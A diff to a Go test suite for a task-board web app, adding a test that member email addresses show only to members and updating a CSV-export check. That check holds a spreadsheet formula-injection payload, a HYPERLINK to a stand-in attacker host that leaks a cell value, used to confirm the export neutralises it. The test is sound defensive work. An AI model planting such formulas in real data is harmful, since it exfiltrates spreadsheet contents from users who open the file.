@@ -222,6 +222,43 @@ func testPrivacy(t *testing.T, backEnd string) {
 	}
 }
 
+// TestEmailsOnlyToMembers: members of a public board read each other's
+// email addresses in its graph, page, search and CSV; anyone else reads
+// their names only (issue 25).
+func TestEmailsOnlyToMembers(t *testing.T) { onEachBackEnd(t, testEmailsOnlyToMembers) }
+
+func testEmailsOnlyToMembers(t *testing.T, backEnd string) {
+	_, srv := newBoard(t, backEnd)
+	const page = "/boards/website-relaunch"
+	for _, tc := range []struct {
+		who    string
+		c      *client
+		emails bool
+	}{
+		{"anonymous", newClient(t, srv, ""), false},
+		{"alice, a member", newClient(t, srv, demoToken), true},
+	} {
+		_, g := tc.c.graph(page)
+		graph, _ := json.Marshal(g.Entities)
+		_, html := tc.c.page(page)
+		_, csv := tc.c.page(page + "/tasks.csv")
+		_, d := tc.c.call(page, "search", map[string]any{"q": "the"}, false)
+		found, _ := json.Marshal(d.Output)
+		for _, doc := range []struct{ name, body string }{
+			{"graph", string(graph)}, {"page", html}, {"CSV", csv}, {"search's output", string(found)},
+		} {
+			for _, name := range []string{"Bob", "Carol"} {
+				if !strings.Contains(doc.body, name) {
+					t.Errorf("%s: the %s does not name %s, a member", tc.who, doc.name, name)
+				}
+			}
+			if got := strings.Contains(doc.body, "carol@example.com"); got != tc.emails {
+				t.Errorf("%s: the %s shows carol@example.com: got %v, want %v\n%.2000s", tc.who, doc.name, got, tc.emails, doc.body)
+			}
+		}
+	}
+}
+
 // TestAgentTasks: an agent with alice's token creates, finds, moves and
 // deletes a task; a date that is not one, and an assignee who is no
 // member, are invalid input at their field.
@@ -328,7 +365,7 @@ func testAgentBoard(t *testing.T, backEnd string) {
 	}
 	resp, csv := alice.do(http.MethodGet, d.Redirect, "", nil)
 	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
-		!strings.HasPrefix(string(csv), "id,title,status,assignee,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,alice@example.com,") ||
+		!strings.HasPrefix(string(csv), "id,title,status,assignee,assignee_email,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,Alice,alice@example.com,") ||
 		!strings.Contains(string(csv), `,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",todo,`) {
 		t.Errorf("the CSV: got %d %q\n%s", resp.StatusCode, resp.Header.Get("Content-Type"), csv)
 	}
